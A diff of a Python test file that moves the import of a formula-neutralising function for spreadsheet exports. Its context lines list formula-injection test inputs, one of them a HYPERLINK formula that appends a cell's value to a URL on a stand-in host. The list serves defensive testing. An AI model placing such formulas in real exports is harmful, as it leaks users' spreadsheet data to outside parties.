@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 from conftest import Run, process_row, sample
 
-from perftrack.reading.spreadsheet import neutralised
+from perftrack.reading.export.spreadsheet import neutralised
 from perftrack.storage.insertion import insert_sample
 
 FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x/?"&A1,"java, click")', "=")
